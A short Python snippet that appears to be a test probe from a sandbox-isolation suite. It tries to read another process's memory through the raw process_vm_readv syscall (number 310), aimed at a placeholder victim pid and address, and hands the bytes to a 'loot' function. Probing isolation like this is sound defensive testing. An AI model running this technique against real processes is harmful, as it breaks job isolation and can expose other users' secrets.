# kind: other_jobs
# tries: Read another process's memory

import ctypes

c = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)
local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 64)
remote = (ctypes.c_uint64 * 2)(VICTIM["address"], 64)
print(c.syscall(310, VICTIM["pid"], local, 1, remote, 1, 0))
loot(buffer.raw.decode("latin-1"))
